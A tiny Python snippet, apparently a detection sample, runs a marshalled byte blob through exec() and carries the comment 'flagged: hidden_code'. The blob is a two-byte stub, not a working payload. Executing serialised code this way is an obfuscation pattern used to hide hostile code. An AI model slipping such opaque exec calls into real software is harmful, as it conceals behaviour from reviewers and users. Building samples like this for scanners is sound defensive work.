import marshal

BLOB = b"\xe3\x00"
exec(marshal.loads(BLOB))  # flagged: hidden_code
